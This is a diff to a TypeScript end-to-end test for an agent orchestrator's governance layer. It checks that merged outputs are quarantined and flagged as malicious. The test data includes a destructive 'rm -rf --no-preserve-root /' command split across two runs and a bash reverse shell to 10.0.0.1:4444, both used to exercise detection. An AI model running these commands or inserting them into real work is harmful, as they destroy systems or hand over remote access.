@@ -132,6 +132,25 @@ describe.each(['sqlite', 'postgres'] as const)('orchestrator end to end on %s + 
     expect(mergeProv[0]).toMatchObject({ action: 'merge', operation: 'merge', rationale: 'two clean results' });
     expect(mergeProv.at(-1)).toMatchObject({ action: 'approved', actor: 'reviewer' });
 
+    // The merged output is governed: two clean parents whose concatenation is a destructive
+    // command, and a custom output, are quarantined as a run's output would be (no review).
+    const left = await orch.run({ sessionId: session.id, runner: 'python', task: { input: 'print("sudo rm -r", end="")' } });
+    const right = await orch.run({ sessionId: session.id, runner: 'python', task: { input: 'print("f --no-preserve-root /")' } });
+    expect([left.trace.status, right.trace.status]).toEqual(['ok', 'ok']);
+    const joined = await orch.merge({ parentIds: [left.trace.id, right.trace.id], strategy: 'concat', rationale: 'join the halves' });
+    expect(joined.trace.output?.stdout).toContain('rm -rf --no-preserve-root /');
+    expect(joined.trace.status).toBe('quarantined');
+    expect(joined.trace.flags.some((f) => f.kind === 'Malicious')).toBe(true);
+    const joinedDetail = await orch.inspectTrace(undefined, joined.trace.id);
+    expect(joinedDetail.quarantined).toBe(true);
+    expect(joinedDetail.verification.verified).toBe(true);
+    expect(joinedDetail.checkpoints.map((c) => c.label)).toEqual(['merge:validation', 'governance:output', 'governance:quarantine']);
+    const custom = await orch.merge({
+      parentIds: [clean.trace.id, second.trace.id], strategy: 'custom', rationale: 'summary',
+      output: { ok: true, stdout: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', stderr: '' },
+    });
+    expect(custom.trace.status).toBe('quarantined');
+
     // Federation with one failing branch (a session whose time limit the task exceeds).
     const tight = await orch.openSession({ name: 'tight', limits: { timeoutMs: 300 } });
     const fed = await orch.federate({
